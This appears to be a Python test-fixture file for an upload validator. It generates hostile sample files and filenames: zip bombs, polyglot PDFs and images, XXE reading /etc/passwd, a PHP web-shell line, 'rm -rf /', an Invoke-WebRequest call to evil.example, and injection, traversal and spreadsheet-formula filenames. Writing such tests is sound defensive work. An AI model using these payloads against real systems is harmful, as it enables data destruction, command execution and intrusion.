"""Files that are no paper at all, files that are two things at once, and names that want to be more."""

import gzip
import io
import lzma
import tarfile
import zipfile
import zlib
from functools import partial

from PIL import Image

from tests.lib.files.bad_files.case import Bad, raw_pdf
from tests.lib.files.bad_files.photos import photo, small

SCRIPT = b"<html><script>alert(1)</script></html>"
PROGRAM, ZIP, OLD = "tệp chương trình", "tệp nén", "đời cũ"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(1536, b"\0")


def zipped(members: dict[str, bytes | int], *, packed: bool = True) -> bytes:
    """A number stands for so many megabytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for block in [bytes(1 << 20)] * data if isinstance(data, int) else [data]:
                    member.write(block)
    return out.getvalue()


def gzipped(megabytes: int) -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def office(part: str, data: bytes | int = b"<x/>", *more: str) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", part: data} | dict.fromkeys(more, b"x"))


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../a.sh"), io.BytesIO())
    return out.getvalue()


def many_zips() -> bytes:
    """As 42.zip: archives in archives, each of them a bomb."""
    inner = zipped({"0.dll": 64})
    for _ in range(3):
        inner = zipped({f"{each}.zip": inner for each in range(16)})
    return inner


def image(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 60)).save(out, kind)
    return out.getvalue()


def film(brand: bytes) -> bytes:
    return b"\0\0\0\x18ftyp" + brand + b"\0" * 99


STRANGERS = {
    "to-trinh.pdf": {
        "Windows program": (lambda: b"MZ\x90\0".ljust(600, b"\0"), PROGRAM),
        "Linux program": (lambda: b"\x7fELF\2\1\1".ljust(600, b"\0"), PROGRAM),
        "Java class": (lambda: b"\xca\xfe\xba\xbe\0\0\0\x41".ljust(99, b"\0"), PROGRAM),
        "Mac program": (lambda: b"\xcf\xfa\xed\xfe".ljust(99, b"\0"), "Không nhận ra"),
        "Android app": (lambda: zipped({"AndroidManifest.xml": b"x", "classes.dex": b"x"}), ZIP),
        "Windows installer": (lambda: OLE, OLD),
        "Windows shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0".ljust(99, b"\0"), "lối tắt"),
        "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "tệp lệnh"),
        "batch file": (lambda: b"@echo off\r\ndel *.*\r\n", "Không nhận ra"),
        "PowerShell": (lambda: b"Invoke-WebRequest http://evil.example", "Không nhận ra"),
        "PHP": (lambda: b"<?php system($_GET['a']); ?>", "trang web"),
        "web page": (lambda: b"<!DOCTYPE html>" + SCRIPT, "trang web"),
        "web page, capitals": (lambda: b"<HTML><BODY ONLOAD=alert(1)>", "trang web"),
        "web page after blanks": (lambda: b"\n \t" * 50 + SCRIPT, "trang web"),
        "web page in UTF-16": (lambda: SCRIPT.decode().encode("utf-16"), "Không nhận ra"),
        "saved web page": (lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "Không nhận ra"),
        "drawing that runs": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "trang web"),
        "drawing with an XML head": (lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", "trang web"),
        "XML that grows": (lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'bbb'>]><a>&b;</a>", "trang web"),
        "XML that reads files": (lambda: b"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "trang web"),
        "PostScript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) run", "Không nhận ra"),
        "form data (FDF)": (lambda: b"%FDF-1.2\n<< /JavaScript >>\n%%EOF", "Không nhận ra"),
        "plain text": ("Tờ trình đề nghị khen thưởng".encode, "Không nhận ra"),
        "text of numbers": (lambda: b"1,2,3\n" * 99, "Không nhận ra"),
        "zeros": (lambda: bytes(100_000), "Không nhận ra"),
        "Windows help (CHM)": (lambda: b"ITSF\3\0\0\0".ljust(99, b"\0"), "Không nhận ra"),
        "mail": (lambda: b"From: a@example.com\nSubject: x\n\nx", "Không nhận ra"),
        "database": (lambda: b"SQLite format 3\0".ljust(4096, b"\0"), "Không nhận ra"),
    },
    "bao-cao.pdf": {
        "Word": (lambda: office("word/document.xml"), "tệp Word"),
        "Word with macros": (lambda: office("word/document.xml", b"<x/>", "word/vbaProject.bin"), "tệp Word"),
        "Word that unpacks to 1 GB": (lambda: office("word/document.xml", 1024), "tệp Word"),
        "Excel": (lambda: office("xl/workbook.xml"), "tệp Excel"),
        "Excel with macros": (lambda: office("xl/workbook.xml", b"<x/>", "xl/vbaProject.bin"), "tệp Excel"),
        "PowerPoint": (lambda: office("ppt/presentation.xml"), ZIP),
        "OpenDocument": (lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}, packed=False), ZIP),
        "e-book": (lambda: zipped({"mimetype": b"application/epub+zip"}, packed=False), ZIP),
        "old Word": (lambda: OLE + "WordDocument".encode("utf-16-le"), OLD),
        "locked Word": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), OLD),
        "RTF": (lambda: b"{\\rtf1 {\\object\\objocx}}", "RTF"),
        "ZIP": (lambda: zipped({"a.txt": b"x"}), ZIP),
        "ZIP of nothing": (lambda: zipped({}), ZIP),
        "ZIP cut off": (lambda: zipped({"a.txt": b"x" * 99})[:60], ZIP),
        "ZIP in ZIP": (lambda: zipped({"a.zip": zipped({"b.zip": b"x"})}), ZIP),
        "ZIP of 1 GB": (lambda: zipped({"a": 1024}), ZIP),
        "ZIP of many ZIPs": (many_zips, ZIP),
        "ZIP of 20.000 names": (lambda: zipped(dict.fromkeys(map(str, range(20_000)), b""), packed=False), ZIP),
        "ZIP with a way up": (lambda: zipped({"../../../etc/passwd": b"x"}), ZIP),
        "RAR": (lambda: b"Rar!\x1a\7\1\0".ljust(99, b"\0"), "RAR"),
        "7z": (lambda: b"7z\xbc\xaf\x27\x1c\0\4".ljust(99, b"\0"), "7z"),
        "gzip": (lambda: gzip.compress(raw_pdf(), mtime=0), ZIP),
        "gzip of 1 GB": (lambda: gzipped(1024), ZIP),
        "bzip2": (lambda: b"BZh91AY&SY".ljust(99, b"\0"), ZIP),
        "xz": (lambda: lzma.compress(b"x"), ZIP),
        "tar": (tarred, "Không nhận ra"),
    },
    "anh.jpg": {
        **{
            kind: (partial(image, kind), says)
            for kind, says in (("WEBP", "WebP"), ("TIFF", "TIFF"), ("BMP", "BMP"), ("GIF", "GIF"), ("AVIF", "AVIF"))
        },
        **{f"HEIC ({brand.decode()})": (partial(film, brand), "HEIC") for brand in (b"heic", b"heix", b"mif1", b"hevc")},
        **{f"film ({brand.decode()})": (partial(film, brand), "phim") for brand in (b"isom", b"mp42", b"qt  ")},
        "TIFF, other way round": (lambda: b"MM\0*".ljust(99, b"\0"), "TIFF"),
        "Photoshop": (lambda: b"8BPS\0\1".ljust(99, b"\0"), "Không nhận ra"),
        "icon": (lambda: b"\0\0\1\0".ljust(99, b"\0"), "Không nhận ra"),
        "JPEG 2000": (lambda: b"\0\0\0\x0cjP  \r\n\x87\n".ljust(99, b"\0"), "Không nhận ra"),
        "GIF that is a script": (lambda: b"GIF89a=1;alert(1)//", "GIF"),
        "BMP that is a script": (lambda: b"BM=1;alert(1)//", "BMP"),
        "picture language (EPS)": (lambda: b"\xc5\xd0\xd3\xc6".ljust(99, b"\0"), "Không nhận ra"),
        "metafile (WMF)": (lambda: b"\xd7\xcd\xc6\x9a".ljust(99, b"\0"), "Không nhận ra"),
    },
}  # fmt: skip
AFTER, BEFORE, HIDDEN_ZIP = "lạ ở cuối", "lạ ở đầu", "tệp nén giấu"
TWO_IN_ONE = {
    "PDF and ZIP": (lambda: raw_pdf() + zipped({"a.txt": b"x"}), HIDDEN_ZIP),
    "PDF and Word": (lambda: raw_pdf() + office("word/document.xml"), HIDDEN_ZIP),
    "PDF and Java": (lambda: raw_pdf() + zipped({"META-INF/MANIFEST.MF": b"x"}), HIDDEN_ZIP),
    "PDF and web page": (lambda: raw_pdf({4: b"(%b)" % bytes(1200)}) + SCRIPT, AFTER),
    "PDF and program": (lambda: raw_pdf() + b"MZ\x90\0", AFTER),
    "PDF and JPEG": (lambda: raw_pdf() + photo(), AFTER),
    "PDF and shell": (lambda: raw_pdf() + b"\n#!/bin/sh\nrm -rf /\n", AFTER),
    "PDF with a web page at its head": (
        lambda: raw_pdf().replace(b"\n", b"\n%<html><script>\n", 1),
        "trang web",
    ),
    "web page, then PDF": (lambda: SCRIPT + raw_pdf(), BEFORE),
    "1.000 bytes, then PDF": (lambda: b"x" * 1000 + raw_pdf(), BEFORE),
    "2.000 bytes, then PDF": (lambda: b"x" * 2000 + raw_pdf(), "Không nhận ra"),
    "blank, then PDF": (lambda: b"\n" + raw_pdf(), BEFORE),
    "program, then PDF": (lambda: b"MZ\x90\0" + raw_pdf(), PROGRAM),
    "GIF, then PDF": (lambda: b"GIF89a" + raw_pdf(), "GIF"),
    "ZIP, then PDF": (lambda: zipped({"a": b"x"}) + raw_pdf(), ZIP),
    "JPEG and ZIP": (lambda: photo() + zipped({"a.js": b"x"}), HIDDEN_ZIP),
    "JPEG and Java": (lambda: photo() + zipped({"A.class": b"\xca\xfe\xba\xbe"}), HIDDEN_ZIP),
    "PNG and ZIP": (lambda: small() + zipped({"a.js": b"x"}), HIDDEN_ZIP),
    "JPEG and PDF": (lambda: photo() + raw_pdf(), None),
    "PNG and web page": (lambda: small() + SCRIPT, None),
    "PNG and program": (lambda: small() + b"MZ\x90\0 script", None),
    "JPEG and script": (lambda: photo() + b"*/=1;alert(1)//script", None),
    "JPEG and RAR": (lambda: photo() + b"Rar!\x1a\7\0script", None),
    "JPEG and a ZIP behind 70 kB": (lambda: photo() + zipped({"script": b"x"}) + bytes(70_000), None),
}
NAMES = {
    "way up": "../../../etc/passwd",
    "way up, Windows": "..\\..\\Windows\\win.ini",
    "whole path": "/etc/cron.d/a",
    "drive": "C:\\Users\\a\\b.pdf",
    "network path": "\\\\may-chu\\chung\\a.pdf",
    "only dots": "...",
    "one dot": ".",
    "up": "..",
    "nothing": "",
    "only blanks": " \t\u00a0\u3000 ",
    "only a slash": "/",
    "hidden file": ".htaccess",
    "NUL": "a.php\0.pdf",
    "line end": "a.pdf\r\nSet-Cookie: x=1",
    "line separators": "a\u2028b\u2029c\x85d.pdf",
    "header": 'a"; filename="b.exe',
    "semicolon": "a.pdf; filename*=UTF-8''b.exe",
    "quotes": "'\"`.pdf",
    "page": "<script>alert(1)</script>.pdf",
    "picture that runs": '"><img src=x onerror=alert(1)>.pdf',
    "template": "{{ 7|add:7 }}{% debug %}.pdf",
    "percent": "%2e%2e%2f%00.pdf",
    "format": "%s%n{0}.pdf",
    "shell": "$(rm -rf ~);`id`|a.pdf",
    "right to left": "anh\u202efdp.exe",
    "isolates": "a\u2066b\u2069\u200e.pdf",
    "zero width": "a\u200b\u200d\ufeffb.pdf",
    "escape": "\x1b[2Ja\x07\x08.pdf",
    "half a letter": "a\ud800b.pdf",
    "private letters": "\ue000\U000f0000.pdf",
    "no letter": "a\uffff\ufffe.pdf",
    "300 letters": "a" * 300 + ".pdf",
    "300 Vietnamese letters": "ề" * 300 + ".pdf",
    "10.000 letters": "ữ" * 10_000,
    "letters that grow": "\ufb2c" * 255,
    "marks without end": "a" + "\u0301" * 5_000 + ".pdf",
    "apart": "To\u031b\u0300 tri\u0300nh.pdf",
    "emoji": "📄👨\u200d👩\u200d👧.pdf",
    "device": "CON",
    "device with an end": "nul.pdf",
    "stream": "a.pdf::$DATA",
    "ending dots": "a.pdf. . .",
    "two endings": "a.pdf.exe",
    "ending of 200 letters": "a." + "b" * 200,
    "formula": "=cmd|' /C calc'!A0.pdf",
    "option": "--output=a.pdf",
    "home": "~/.ssh/id_rsa",
    "tab": "a\tb\vc\fd.pdf",
}
CASES = [
    *(Bad(name, make, says, filename=called) for called, kinds in STRANGERS.items() for name, (make, says) in kinds.items()),
    *(Bad(name, make, says, (b"script", b"MZ\x90", b"%PDF", b"Rar!") if says is None else ()) for name, (make, says) in TWO_IN_ONE.items()),
]  # fmt: skip
